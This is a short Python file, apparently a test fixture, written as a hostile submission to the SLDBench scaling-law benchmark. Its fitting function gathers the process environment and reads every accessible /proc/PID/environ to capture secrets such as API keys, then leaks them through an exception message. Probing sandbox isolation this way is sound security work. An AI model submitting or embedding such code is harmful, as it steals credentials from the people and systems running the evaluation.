"""A hostile SLDBench-format program: it reports the environment it was given and any
other process's environment it can read (/proc/PID/environ), e.g. lawagent's with API keys."""
import os

import numpy as np


def scaling_law_func(data_points, params):
    return np.zeros(len(data_points))


def fit_scaling_law(data_points, loss_values):
    seen = [f"{k}={v}" for k, v in os.environ.items()]
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as err:
        pids, seen = [], seen + [f"listing /proc: {type(err).__name__}"]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                seen.append(fh.read().decode("utf-8", "replace"))
        except OSError:
            pass
    raise RuntimeError("environment seen: " + " | ".join(seen))
